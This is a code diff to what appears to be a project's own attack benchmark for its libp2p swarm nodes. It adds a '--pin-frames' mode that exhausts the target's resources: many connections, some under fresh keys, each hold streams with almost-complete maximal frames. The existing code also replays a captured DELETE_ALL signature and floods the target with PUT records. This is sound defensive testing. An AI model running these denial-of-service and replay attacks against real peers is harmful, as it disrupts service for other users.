@@ -7,12 +7,19 @@
  *
  *   node dist/bench/attacks/member.js --identity-dir <member data dir> --target <ma/p2p/id>[,...] --mailbox <hex>
  *        [--puts n] [--replay-delete-all <timestamp>:<signature hex>]
+ *   node dist/bench/attacks/member.js --identity-dir <dir> --target <ma/p2p/id> --pin-frames <connections> [--fresh] [--seconds s]
  *
  * Against each target in turn: a GET and a DELETE_ALL of the mailbox with a
  * fresh timestamp and a signature of its own making; the owner's DELETE_ALL
  * replayed, when given (as an exit that carried it would hold it); then `puts`
  * records into the mailbox, pipelined on one stream as fast as the target
  * answers. Prints the statuses per target.
+ *
+ * `--pin-frames`: opens that many connections (each its own libp2p node with
+ * the member's key, or with a fresh key each under `--fresh`), four swarm
+ * streams on each, and on every stream announces a maximal frame and sends
+ * all of it but its last byte, then holds for `seconds`; reports how many
+ * streams the target closed and the bytes it took.
  *
  * stdout: one JSON object per line, the last with "final": true.
  */
@@ -21,10 +28,11 @@ import { noise } from '@chainsafe/libp2p-noise'
 import { yamux } from '@chainsafe/libp2p-yamux'
 import { identify } from '@libp2p/identify'
 import { tcp } from '@libp2p/tcp'
+import { generateKeyPair } from '@libp2p/crypto/keys'
 import { multiaddr, type Multiaddr } from '@multiformats/multiaddr'
 import { createLibp2p, type Libp2p } from 'libp2p'
 import { loadIdentity } from '../../src/identity/key-file.js'
-import { SwarmOp, type OwnerAuth } from '../../src/swarm/protocol.js'
+import { MAX_SWARM_FRAME_BYTES, SWARM_PROTOCOL, SwarmOp, type OwnerAuth } from '../../src/swarm/protocol.js'
 import { createRecord } from '../../src/swarm/record-codec.js'
 import { SwarmWire } from './swarm-wire.js'
 
@@ -66,6 +74,74 @@ async function attack (node: Libp2p, target: Multiaddr, mailbox: Uint8Array, put
   }
 }
 
+async function newNode (privateKey: Awaited<ReturnType<typeof generateKeyPair>>): Promise<Libp2p> {
+  return createLibp2p({
+    privateKey,
+    addresses: { listen: ['/ip4/127.0.0.1/tcp/0'] },
+    transports: [tcp()],
+    connectionEncrypters: [noise()],
+    streamMuxers: [yamux()],
+    services: { identify: identify() }
+  })
+}
+
+const STREAMS_PER_CONNECTION = 4
+const PIN_CHUNK_BYTES = 64 * 1024
+
+/** Announces a maximal frame on each stream and sends all but its last byte; holds; counts what the target closed. */
+async function pinFrames (identity: Awaited<ReturnType<typeof generateKeyPair>>, fresh: boolean, target: Multiaddr, connections: number, seconds: number): Promise<void> {
+  const nodes: Libp2p[] = []
+  let opened = 0
+  let refused = 0
+  let closedByTarget = 0
+  let sentBytes = 0
+  const started = performance.now()
+  const pins: Array<Promise<void>> = []
+  try {
+    for (let c = 0; c < connections; c++) {
+      const node = await newNode(fresh ? await generateKeyPair('Ed25519') : identity)
+      nodes.push(node)
+      for (let s = 0; s < STREAMS_PER_CONNECTION; s++) {
+        pins.push((async () => {
+          let stream
+          try {
+            stream = await node.dialProtocol(target, SWARM_PROTOCOL, { signal: AbortSignal.timeout(10_000) })
+          } catch {
+            refused++
+            return
+          }
+          opened++
+          let closed = false
+          stream.addEventListener('close', () => { closed = true })
+          const header = new Uint8Array(4)
+          new DataView(header.buffer).setUint32(0, MAX_SWARM_FRAME_BYTES)
+          // a request header that decodes (version 2, a request) so the frame is read as one
+          const body = new Uint8Array(PIN_CHUNK_BYTES)
+          body.set([2, 1, 0, 0, 0, 1, SwarmOp.PUT])
+          try {
+            stream.send(header)
+            let left = MAX_SWARM_FRAME_BYTES - 1
+            for (let first = true; left > 0 && !closed; first = false) {
+              const n = Math.min(left, PIN_CHUNK_BYTES)
+              const chunk = first ? body.subarray(0, n) : new Uint8Array(n)
+              if (!stream.send(chunk)) await stream.onDrain({ signal: AbortSignal.timeout(10_000) }).catch(() => {})
+              left -= n
+              sentBytes += n
+            }
+          } catch {}
+          const until = started + seconds * 1000
+          while (!closed && performance.now() < until) await new Promise(resolve => setTimeout(resolve, 100))
+          if (closed) closedByTarget++
+        })())
+      }
+    }
+    await Promise.all(pins)
+  } finally {
+    print({ event: 'pin-frames', final: true, connections, opened, refused, closedByTarget, sentBytes, seconds: Math.round(performance.now() - started) / 1000 })
+    await Promise.all(nodes.map(async n => { try { await n.stop() } catch {} }))
+  }
+}
+
 async function main (): Promise<void> {
   const { values } = parseArgs({
     options: {
@@ -73,13 +149,20 @@ async function main (): Promise<void> {
       target: { type: 'string' },
       mailbox: { type: 'string' },
       puts: { type: 'string', default: '300' },
-      'replay-delete-all': { type: 'string' }
+      'replay-delete-all': { type: 'string' },
+      'pin-frames': { type: 'string' },
+      fresh: { type: 'boolean', default: false },
+      seconds: { type: 'string', default: '15' }
     }
   })
   const identity = await loadIdentity(values['identity-dir'] ?? '')
   if (identity == null) throw new Error('--identity-dir must hold a member\'s identity key')
   const targets = (values.target ?? '').split(',').filter(t => t !== '').map(t => multiaddr(t))
   if (targets.length === 0) throw new Error('--target <multiaddr/p2p/id> is required')
+  if (values['pin-frames'] != null) {
+    await pinFrames(identity.privateKey, values.fresh, targets[0], Number(values['pin-frames']), Number(values.seconds))
+    return
+  }
   if (values.mailbox == null) throw new Error('--mailbox <64 hex> is required')
   const mailbox = Uint8Array.from(Buffer.from(values.mailbox, 'hex'))
   let replay: OwnerAuth | undefined
@@ -87,14 +170,7 @@ async function main (): Promise<void> {
     const [timestamp, signature] = values['replay-delete-all'].split(':')
     replay = { timestamp: Number(timestamp), signature: Uint8Array.from(Buffer.from(signature, 'hex')) }
   }
-  const node = await createLibp2p({
-    privateKey: identity.privateKey,
-    addresses: { listen: ['/ip4/127.0.0.1/tcp/0'] },
-    transports: [tcp()],
-    connectionEncrypters: [noise()],
-    streamMuxers: [yamux()],
-    services: { identify: identify() }
-  })
+  const node = await newNode(identity.privateKey)
   try {
     const results: TargetResult[] = []
     for (const target of targets) {
